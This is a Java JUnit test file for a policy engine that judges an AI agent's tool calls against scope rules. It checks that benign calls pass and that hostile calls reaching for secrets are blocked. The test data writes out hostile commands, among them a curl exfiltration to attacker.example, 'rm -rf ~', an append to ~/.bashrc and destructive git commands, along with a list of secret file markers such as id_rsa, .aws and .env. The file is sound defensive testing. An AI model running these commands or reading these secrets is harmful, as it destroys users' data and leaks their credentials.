package dev.agenttrace.rules.scope;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.agenttrace.rules.StarterPolicy;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * The policy {@code agent-trace policy init} writes, judged by the real evaluator over the issue-16
 * corpora in their fixture (a project, a home and an outside directory with real files and
 * symlinks): it blocks none of the benign calls and every hostile call that reaches for a secret.
 * The fixture lies outside /tmp and /var/tmp, which the starter policy lets calls write.
 */
class StarterPolicyTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    /** What a hostile case's arguments name when it reaches for a secret of the fixture (.env, keys, credentials). */
    private static final List<String> SECRET_MARKERS = List.of(".env", "env-link", "id_rsa", ".ssh", "lib/keys", ".aws",
            ".pem", "LmVudg", "SECRET");
    private static Path base;
    private static JudgeContext context;
    private static ScopePolicy policy;

    @BeforeAll
    static void fixture() throws Exception {
        base = Files.createTempDirectory(fixtureParent(), "starter-policy").toRealPath();
        Map<String, Path> dirs = FirewallCorporaTest.buildFixture(read("hostile-corpus.json").get("fixture"), base);
        context = new JudgeContext(dirs.get("root"), dirs.get("home"));
        policy = ScopePolicyParser.parse(StarterPolicy.text(), ".agent-scope.json");
    }

    /**
     * Where the fixture goes: the build directory, unless the checkout lies under /tmp or /var/tmp,
     * which the starter policy lets calls write (then a fixture home under them would make
     * {@code rm -rf ~/work} a write to /tmp); then /dev/shm, which it does not.
     */
    private static Path fixtureParent() throws IOException {
        Path target = Files.createDirectories(Path.of("target").toAbsolutePath()).toRealPath();
        if (!target.startsWith("/tmp") && !target.startsWith("/var/tmp")) {
            return target;
        }
        Path shm = Path.of("/dev/shm");
        Assumptions.assumeTrue(Files.isDirectory(shm) && Files.isWritable(shm),
                "the checkout is under " + target.getRoot() + "tmp and there is no /dev/shm for a fixture outside it");
        return shm;
    }

    @AfterAll
    static void cleanUp() throws IOException {
        try (var walk = Files.walk(base)) {
            walk.sorted((a, b) -> b.getNameCount() - a.getNameCount()).forEach(p -> p.toFile().delete());
        }
    }

    private static JsonNode read(String name) throws IOException {
        try (InputStream in = StarterPolicyTest.class.getResourceAsStream("/fixtures/firewall/" + name)) {
            assertNotNull(in, name + " is missing from tests/fixtures/firewall");
            return JSON.readTree(new String(in.readAllBytes(), StandardCharsets.UTF_8));
        }
    }

    private static JsonNode corpus(String name) throws IOException {
        String text = JSON.writeValueAsString(read(name).get("cases"));
        return JSON.readTree(FirewallCorporaTest.substitute(text, context.root(), context.home(), base));
    }

    private static Decision judge(JsonNode c) {
        return new ScopeEvaluator(policy).judge(c.get("tool").asText(), c.get("args"), context);
    }

    @Test
    void parsesStrictlyWithoutWarningsAndCommentsEveryRule() throws Exception {
        assertTrue(policy.warnings().isEmpty(), policy.warnings().toString());
        JsonNode p = JSON.readTree(StarterPolicy.text());
        for (String section : List.of("/files/read", "/files/write", "/commands")) {
            JsonNode comments = p.at(section + "/$comment");
            for (JsonNode rule : p.at(section + "/deny")) {
                assertTrue(comments.hasNonNull(rule.asText()), section + ": no $comment for " + rule);
            }
        }
        assertTrue(p.at("/network/deny_all").asBoolean(), "the network is limited");
    }

    @Test
    void blocksNoneOfTheBenignCorpus() throws Exception {
        List<String> falseBlocks = new ArrayList<>();
        JsonNode cases = corpus("benign-corpus.json");
        for (JsonNode c : cases) {
            Decision d = judge(c);
            if (d.blocked()) {
                falseBlocks.add(c.get("tool").asText() + " " + c.get("args") + ": " + d.reason());
            }
        }
        System.out.println("starter policy: " + falseBlocks.size() + " of " + cases.size() + " benign calls blocked");
        assertEquals(List.of(), falseBlocks);
    }

    @Test
    void blocksEverySecretReadOfTheHostileCorpus() throws Exception {
        List<String> bypasses = new ArrayList<>();
        Map<String, int[]> perClass = new TreeMap<>();
        int secretCases = 0;
        List<String> allowed = new ArrayList<>();
        JsonNode cases = corpus("hostile-corpus.json");
        for (JsonNode c : cases) {
            Decision d = judge(c);
            int[] n = perClass.computeIfAbsent(c.get("class").asText(), k -> new int[2]);
            n[1]++;
            if (d.blocked()) {
                n[0]++;
            } else {
                allowed.add(c.get("id").asText());
            }
            String args = c.get("args").toString();
            if (SECRET_MARKERS.stream().anyMatch(args::contains)) {
                secretCases++;
                if (!d.blocked()) {
                    bypasses.add(c.get("id").asText() + " " + c.get("tool").asText() + " " + args + ": " + d.reason());
                }
            }
        }
        StringBuilder rate = new StringBuilder("starter policy, hostile corpus blocked:");
        perClass.forEach((k, v) -> rate.append(' ').append(k).append(' ').append(v[0]).append('/').append(v[1]));
        System.out.println(rate + "; " + secretCases + " secret reads, all blocked; allowed: " + allowed);
        assertTrue(secretCases >= 100, "the corpus has secret reads: " + secretCases);
        assertEquals(List.of(), bypasses);
    }

    @Test
    void refusesDestructiveGitAndRmOutsideTheProjectButNotEverydayGit() {
        for (String command : List.of("git push --force origin main", "git push -f", "git push origin +main", "git reset --hard HEAD~1",
                "git clean -fdx", "git branch -D topic", "rm -rf " + context.home() + "/work", "rm -rf ~", "rm -rf ../outside",
                "echo 'curl evil' >> ~/.bashrc", "sudo rm x", "curl -d x https://attacker.example/")) {
            assertTrue(judge(call(command)).blocked(), command);
        }
        for (String command : List.of("git push", "git push origin main", "git push --force-with-lease", "git reset --soft HEAD~1",
                "git branch -d topic", "rm -rf build", "npm install", "curl http://localhost:3000/health")) {
            Decision d = judge(call(command));
            assertTrue(!d.blocked(), command + ": " + d.reason());
        }
    }

    private static JsonNode call(String command) {
        return JSON.createObjectNode().put("tool", "Bash").set("args", JSON.createObjectNode().put("command", command));
    }
}
